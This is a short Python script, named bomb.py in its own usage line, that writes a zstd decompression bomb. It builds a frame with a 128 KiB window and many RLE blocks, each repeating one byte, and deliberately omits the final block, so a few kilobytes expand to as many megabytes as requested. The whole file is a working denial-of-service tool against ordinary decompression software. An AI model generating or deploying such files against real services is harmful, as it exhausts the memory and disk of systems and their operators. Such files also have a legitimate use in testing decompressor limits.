"""Writes a zstd file of a few kilobytes that unpacks to many megabytes.

Usage: bomb.py MEGABYTES > FILE

As zstd's format is laid out in RFC 8878: a frame with a window of 128 KiB, and
blocks that repeat one byte so many times. The last block is missing, so that
nobody comes to read the text.
"""

import struct
import sys

BLOCK_SIZE = 128 << 10
RLE_BLOCK = 1

count = (int(sys.argv[1]) << 20) // BLOCK_SIZE
frame = bytearray(struct.pack("<IBB", 0xFD2FB528, 0, (17 - 10) << 3))
header = RLE_BLOCK << 1 | BLOCK_SIZE << 3
frame += (header.to_bytes(3, "little") + b"a") * count
sys.stdout.buffer.write(frame)
